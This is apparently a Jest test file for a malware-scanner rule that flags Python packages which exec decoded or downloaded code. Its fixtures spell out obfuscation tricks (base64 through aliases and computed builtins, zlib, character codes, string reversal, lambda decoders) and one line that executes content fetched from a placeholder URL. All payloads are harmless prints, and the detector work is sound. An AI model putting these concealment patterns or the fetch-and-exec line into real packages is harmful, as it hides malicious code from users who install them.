import { describe, expect, it } from '@jest/globals';
import { pyExecDecoded } from '../../../src/analysis/rules/py-exec-decoded.js';
import { gating, run, runOn } from './helpers.js';

describe('py-exec-decoded', () => {
  it('flags the technique in a fixture package', async () => {
    const findings = await run(pyExecDecoded, 'py-exec-decoded/positive');
    expect(findings.length).toBeGreaterThan(0);
    expect(findings[0].rule).toBe('py-exec-decoded');
    expect(findings[0].severity).toBe('critical');
    expect(findings[0].message.length).toBeGreaterThan(20);
    expect(findings[0].line).toBeGreaterThan(0);
  });

  it('stays below the gate on the legitimate look-alike', async () => {
    expect(gating(await run(pyExecDecoded, 'py-exec-decoded/negative'))).toEqual([]);
  });

  it('quotes the decoded payload and follows aliases and computed builtins', async () => {
    const findings = await runOn(pyExecDecoded, 'pypi', {
      'demo/__init__.py': [
        'from base64 import b64decode as d',
        "g = globals()['__builtins__']",
        "run = getattr(__import__('builtins'), 'ex' + 'ec')",
        "run(d('cHJpbnQoImhlbGxvIik='))",
      ].join('\n'),
    });
    expect(findings).toHaveLength(1);
    expect(findings[0].evidence).toContain('print("hello")');
    expect(findings[0].message).toContain('imported');
  });

  it('sees through zlib, reversal and character codes', async () => {
    const findings = await runOn(pyExecDecoded, 'pypi', {
      'm.py': [
        'import zlib, base64',
        "exec(zlib.decompress(base64.b64decode('eJwrKMrMK9FQqsrJTFLSBAAiVQR0')))",
        "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))",
        "exec(')2(tnirp'[::-1])",
      ].join('\n'),
    });
    expect(findings.map((f) => f.evidence)).toEqual([
      expect.stringContaining('print'),
      expect.stringContaining('print(1)'),
      expect.stringContaining('print(2)'),
    ]);
  });

  it('flags exec of content fetched over the network', async () => {
    const findings = await runOn(pyExecDecoded, 'pypi', {
      'm.py': "import requests\nexec(requests.get('https://example.invalid/x').text)\n",
    });
    expect(findings[0].message).toContain('downloaded');
  });

  it('follows a decoder wrapped in a local lambda or function', async () => {
    const blob = Buffer.from("print('hi')").toString('base64').split('').reverse().join('');
    const findings = await runOn(pyExecDecoded, 'pypi', {
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/__init__.py': [
        "_ = lambda s: __import__('base64').b64decode(s[::-1])",
        'def unwrap(s):',
        '    return _(s)',
        `exec((unwrap)('${blob}'))`,
      ].join('\n'),
    });
    expect(findings[0].severity).toBe('critical');
  });

  it('does not treat a local helper that reads a file as decoded code', async () => {
    const findings = await runOn(pyExecDecoded, 'pypi', {
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/conf.py':
        'def load(path):\n    with open(path) as f:\n        return f.read()\n\ndef run_config(path):\n    exec(load(path), {})\n',
    });
    expect(findings.filter((f) => f.severity === 'critical' || f.severity === 'high')).toEqual([]);
  });
});
